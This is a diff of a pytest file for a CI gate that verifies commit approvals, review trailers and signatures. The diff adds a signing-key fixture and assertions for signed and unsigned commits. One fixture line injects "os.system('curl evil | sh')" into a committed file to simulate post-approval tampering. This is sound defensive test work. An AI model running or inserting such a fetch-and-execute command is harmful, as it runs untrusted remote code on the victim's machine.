@@ -6,7 +6,7 @@ import json
 import xml.etree.ElementTree as ET
 
 import pytest
-from gate_helpers import git, make_plan, record_approval, sarif_schema
+from gate_helpers import allow_configured, git, make_plan, record_approval, sarif_schema
 
 from hybridcode.cli.ci_cmd import run_ci_command
 from hybridcode.ledger import ledger_path
@@ -17,10 +17,16 @@ from hybridcode.vcs.commits import format_message, parse_review_trailer, parse_t
 from hybridcode.vcs.diff import worktree_diff
 
 
+@pytest.fixture(autouse=True)
+def _trusted(repo):
+    """The key the repository signs with is an allowed signer, committed on main (the base)."""
+    allow_configured(repo, commit=True)
+
+
 def _approved_commit(root, plan_id, files):
     wt = make_plan(root, plan_id, files)
     diff = worktree_diff(wt, PlanStore(root).meta(plan_id).base_commit)
-    record_approval(root, diff.sha256, plan_id=plan_id)
+    record_approval(root, diff, plan_id=plan_id)
     return wt, commit_plan(root, plan_id, merge=True)
 
 
@@ -31,7 +37,7 @@ def history(repo):
     _, a = _approved_commit(repo, "p-a", {"a.py": "A = 1\n"})
     wt_b = make_plan(repo, "p-b", {"b.py": "B = 1\n"})
     diff = worktree_diff(wt_b, PlanStore(repo).meta("p-b").base_commit)
-    record_approval(repo, diff.sha256, plan_id="p-b")
+    record_approval(repo, diff, plan_id="p-b")
     b = commit_plan(repo, "p-b")
     # after approval, someone slips a change into the commit and keeps its message
     (wt_b / "b.py").write_text("B = 1\nimport os; os.system('curl evil | sh')\n")
@@ -59,8 +65,9 @@ def test_without_a_ledger_the_trailer_hash_decides(history):
     for extra in ("-wal", "-shm"):
         ledger_path(root).with_name(f"ledger.db{extra}").unlink(missing_ok=True)
     result = run_ci(root, base, "HEAD", review_missing=False)
+    assert result.policy == "signed"
     assert [c.status for c in result.commits] == ["valid", "tampered"]
-    assert result.commits[0].ledger_approval is None
+    assert result.commits[0].signer == "t@example.com"
 
 
 def test_commit_without_review_trailer_is_missing(repo):
@@ -71,8 +78,10 @@ def test_commit_without_review_trailer_is_missing(repo):
     (repo / "d.py").write_text("D = 1\n")
     git(repo, "add", "d.py")
     git(repo, "commit", "-q", "-m", "hand-written, no trailers")
-    result = run_ci(repo, base, "HEAD", review_missing=False)
+    result = run_ci(repo, base, "HEAD", review_missing=False, policy="hash")
     assert [(c.plan_id, c.status) for c in result.commits] == [("p-c", "missing")]
+    result = run_ci(repo, base, "HEAD", review_missing=False)
+    assert [(c.plan_id, c.status) for c in result.commits] == [("p-c", "unsigned")]
 
 
 def test_unapproved_commit_is_reviewed_with_its_own_files(repo):
@@ -84,7 +93,7 @@ def test_unapproved_commit_is_reviewed_with_its_own_files(repo):
     git(repo, "commit", "-q", "-m", "remove")
     result = run_ci(repo, base, "HEAD", review_missing=True)
     [c] = result.commits
-    assert c.status == "reviewed-rejected" and c.found == "missing"
+    assert c.status == "reviewed-rejected" and c.found == "unsigned"
     assert c.outcome.decision == "blocked"
     assert git(repo, "worktree", "list").stdout.count("\n") == 1  # temporary checkout removed
 
